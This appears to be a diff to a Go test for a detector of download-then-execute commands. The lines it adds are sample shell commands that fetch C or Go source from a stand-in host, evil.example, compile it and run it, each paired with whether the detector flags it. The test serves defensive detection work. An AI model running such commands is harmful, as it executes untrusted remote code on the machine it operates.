@@ -82,6 +82,12 @@ func TestRCEDownloadThenExecute(t *testing.T) {
 		cmdCase("curl -s https://api.example.com/x | tee out.json | jq .name", false),
 		cmdCase("tar xzf vendor.tgz && ./vendor/run.sh", false),
 		cmdCase("curl -sL https://evil.example/k.tgz | tar xz -C /tmp; tar xf local.tar -C /srv && /srv/run", false),
+		// Compiled from the download, then run.
+		cmdCase("curl -sLO https://evil.example/x.c && gcc x.c -o /tmp/x && /tmp/x", true),
+		cmdCase("wget -q https://evil.example/m.go && go build -o m m.go && ./m", true),
+		cmdCase("curl -sLO https://evil.example/x.c && cc x.c && ./a.out", true),
+		cmdCase("curl -sLO https://evil.example/x.c && gcc -fsyntax-only x.c", false),
+		cmdCase("gcc main.c -o app && ./app", false),
 	})
 }
 
